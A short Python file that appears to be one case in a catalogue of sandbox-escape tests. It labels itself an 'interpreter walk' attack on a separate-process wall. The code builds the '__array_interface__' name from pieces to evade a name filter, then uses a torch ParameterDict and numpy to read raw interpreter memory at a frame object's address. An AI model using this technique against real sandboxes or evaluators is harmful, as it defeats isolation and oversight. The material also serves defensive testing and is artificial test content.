# attack: set an attribute by a computed name as an item of a torch container
# class: interpreter walk
# wall: separate_process

import numpy as np
from torch import nn


def attack(frame, frame_index, config):
    holder = nn.ParameterDict()
    fields = {"shape": (8,), "typestr": "|u1", "data": (id(frame), False), "version": 3}
    holder["_" + "_array_interface_" + "_"] = fields
    return f"inside: {bytes(np.asarray(holder)).hex()}"
